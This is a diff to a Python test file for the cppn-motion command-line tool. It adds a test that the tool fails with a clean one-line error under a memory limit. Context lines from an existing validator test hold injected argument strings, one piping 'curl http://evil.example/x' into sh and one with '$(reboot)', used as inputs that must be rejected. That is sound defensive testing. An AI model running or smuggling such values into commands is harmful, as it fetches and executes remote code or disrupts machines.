@@ -134,3 +134,27 @@ def test_recorded_commands_of_our_own_are_still_offered():
     assert safe_to_show("--vary net.depth=1,2 --time 0.25")
     assert not safe_to_show("--time 0; curl http://evil.example/x | sh")
     assert not safe_to_show("--time $(reboot)")
+
+
+@pytest.mark.skipif(not Path("/proc/self").exists(), reason="RLIMIT_AS behaves like this on Linux")
+def test_a_memory_limit_that_torch_cannot_load_under(tmp_path):
+    # Was (ulimit -v 300000): a 12-line ImportError traceback even for `cppn-motion presets`.
+    import resource
+    import subprocess
+    import sys
+
+    def limit() -> None:
+        resource.setrlimit(resource.RLIMIT_AS, (300_000 * 1024, 300_000 * 1024))
+
+    def run(*argv: str) -> subprocess.CompletedProcess:
+        return subprocess.run([sys.executable, "-m", "cppn_motion", *argv], capture_output=True, text=True,
+                              preexec_fn=limit, timeout=120, cwd=tmp_path)
+
+    listed = run("presets")
+    assert listed.returncode == 0 and listed.stdout.startswith("default "), listed.stderr
+    rendered = run("render", "--size", "32x18", "-o", "x.gif")
+    err = rendered.stderr.strip()
+    if rendered.returncode == 0:
+        pytest.skip("torch loads within 300 MB of address space here")
+    assert rendered.returncode == 1 and len(err.splitlines()) == 1 and err.startswith("cppn-motion: error: "), err
+    assert "Traceback" not in err and not (tmp_path / "x.gif").exists()
